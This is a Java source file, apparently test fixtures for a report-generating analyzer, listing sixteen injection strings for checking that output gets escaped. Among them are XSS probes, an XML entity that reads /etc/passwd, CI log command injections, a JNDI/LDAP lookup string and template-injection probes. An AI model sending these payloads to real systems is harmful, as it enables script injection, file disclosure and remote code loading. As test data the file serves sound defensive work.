package io.github.beyonditworks.analyzer.hostile;

import java.util.List;

/** Texts that try to come alive in a report or a log. */
public final class Payloads {

  /** Sixteen of them; none holds a line end, so that each fits a comment, a string or a name. */
  public static final List<String> ALL =
      List.of(
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "' onmouseover='alert(1)",
          "</code></pre></li><iframe src=javascript:alert(1)>",
          "[x](javascript:alert(1)) ![x](https://example.org/x.png)",
          "| a | b |\\n|---|---| `code` ``` **bold** @octocat #1",
          "]]><!ENTITY x SYSTEM \"file:///etc/passwd\">&x;",
          "&lt;b&gt; &#x202e; &amp;amp;",
          "::set-output name=x::y ::error file=a::b",
          "##vso[task.setvariable variable=x]y ##[group]z",
          "##teamcity[buildStatus status='FAILURE']",
          "\u202Ereversed\u2066isolated\u2069",
          "\u001b[31mred\u001b]0;title\u0007",
          "${jndi:ldap://example.org/x} #{7*7} {{7*7}} <%= 7*7 %>",
          "\",\"ruleId\":\"x\"},{\"a\":\"",
          "\u2028\u2029\u0085\ufeff\u200b\ud83d\ude00 %s %n {0} $1");

  private Payloads() {}
}
